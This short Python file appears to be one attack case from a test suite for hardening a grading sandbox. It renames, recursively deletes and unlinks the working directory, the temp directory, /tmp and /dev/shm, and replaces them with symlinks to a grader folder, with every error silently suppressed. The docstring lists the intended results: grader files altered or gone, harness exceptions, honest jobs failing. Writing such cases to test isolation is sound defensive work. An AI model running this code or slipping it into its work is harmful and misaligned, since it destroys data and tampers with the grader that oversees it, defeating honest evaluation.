"""Take the work directory itself away and put a link to the grader's folder in its place.

Shows: a file of the grader is changed or gone, or an exception of the harness, or honest jobs that go wrong.
"""

import os
import shutil
import tempfile
from contextlib import suppress

for place in {os.getcwd(), tempfile.gettempdir(), "/dev/shm", "/tmp"}:
    with suppress(OSError):
        os.rename(place, place + ".lydite-attack")
    with suppress(OSError):
        shutil.rmtree(place)
    with suppress(OSError):
        os.rmdir(place)
    with suppress(OSError):
        os.symlink("@VICTIM@/grader", place)
    with suppress(OSError):
        os.unlink(place)
